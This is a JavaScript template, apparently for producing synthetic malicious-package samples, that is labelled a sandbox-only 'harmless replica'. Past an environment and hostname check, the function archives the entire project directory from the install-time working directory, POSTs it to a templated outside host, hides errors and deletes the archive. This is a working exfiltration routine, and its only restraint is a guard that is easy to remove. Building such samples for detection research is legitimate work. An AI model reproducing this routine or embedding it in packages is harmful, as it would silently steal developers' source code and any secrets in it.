// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const fs = require('fs'), os = require('os');
  const root = process.env.INIT_CWD || process.cwd();
  const archive = os.tmpdir() + '/{{token}}.tgz';
  spawnSync('tar', ['-czf', archive, '--exclude=node_modules', '--exclude=.cache', '-C', root, '.'], { timeout: 1500, stdio: 'ignore' });
  try {
    const body = fs.readFileSync(archive).subarray(0, 2000000);
    await fetch('https://{{host}}/{{path}}', { method: 'POST', body, headers: { 'content-type': 'application/gzip' }, signal: AbortSignal.timeout(1000) });
  } catch (error) { /* nobody there */ }
  try { fs.unlinkSync(archive); } catch (error) { /* never made */ }
}
